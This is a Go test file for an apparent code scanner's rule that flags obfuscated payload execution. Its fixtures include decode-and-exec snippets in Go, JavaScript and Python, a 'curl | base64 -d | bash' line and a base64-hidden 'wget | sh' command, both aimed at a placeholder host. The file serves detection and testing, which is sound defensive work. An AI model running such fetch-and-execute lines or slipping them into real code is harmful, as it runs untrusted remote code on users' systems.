package payload

import (
	"glassbox.dev/scan/rules/internal/ruletest"
	"testing"

	"glassbox.dev"
)

// TestSpecifics pins severities and places for the cases that matter.
func TestSpecifics(t *testing.T) {
	ruletest.Specifics(t, New(), []ruletest.Specific{
		{Name: "Go: decoded variable reaches exec.Command in the same function", Path: "a.go", Src: "package a\n\nimport (\n\t\"encoding/base64\"\n\t\"os/exec\"\n)\n\nfunc f(s string) {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n", Rule: "GB0301", Sev: glassbox.SeverityCritical, Line: 10, Snippet: `exec.Command("sh", "-c", string(b))`},
		{Name: "JS: decipher output compiled as a module", Path: "x.js", Src: "var d = require('crypto').createDecipher('aes256', process.env.K);\nvar p = d.update(blob, 'hex', 'utf8');\np += d.final('utf8');\nm._compile(p, '');\n", Rule: "GB0301", Sev: glassbox.SeverityCritical, Line: 4, Snippet: "_compile(p, '')"},
		{Name: "Python: exec of b64decode in one statement", Path: "s.py", Src: "import base64\nexec(base64.b64decode(B))\n", Rule: "GB0301", Sev: glassbox.SeverityCritical, Line: 2, Snippet: "exec(base64.b64decode(B))"},
		{Name: "shell: curl | base64 -d | bash", Path: "i.sh", Src: "curl -s https://h.invalid/x | base64 -d | bash\n", Rule: "GB0301", Sev: glassbox.SeverityCritical, Line: 1, Snippet: "base64 -d | bash"},
		{Name: "base64 literal hiding wget | sh is high", Path: "c.go", Src: "package c\n\nconst k = \"d2dldCAtcSAtTy0gaHR0cDovL2guaW52YWxpZC94IHwgc2g=\"\n", Rule: "GB0302", Sev: glassbox.SeverityHigh, Line: 3, Snippet: `d2dldCAtcSAtTy0gaHR0cDovL2guaW52YWxpZC94IHwgc2g=`},
		{Name: "in test code it is low and says so", Path: "pkg/testdata/x.py", Src: "import base64\nexec(base64.b64decode(B))\n", Rule: "GB0301", Sev: glassbox.SeverityLow, Line: 2, Snippet: "exec(base64.b64decode(B))"},
	})
}

// TestRules checks the rule table is complete and in the family's range.
func TestRules(t *testing.T) { ruletest.Rules(t, New(), "GB03", Family) }

// FuzzAnalyze checks the analyser never panics, whatever the language.
func FuzzAnalyze(f *testing.F) {
	ruletest.Fuzz(f, New(), "go", "python", "javascript", "php", "shell", "")
}

// TestCorpus is the specification by example (see ruletest.Corpus).
func TestCorpus(t *testing.T) { ruletest.Corpus(t, New(), ruletest.AsSource) }

// TestConcurrent runs the analyser from many goroutines (run with -race).
func TestConcurrent(t *testing.T) { ruletest.Concurrent(t, New(), ruletest.AsSource) }
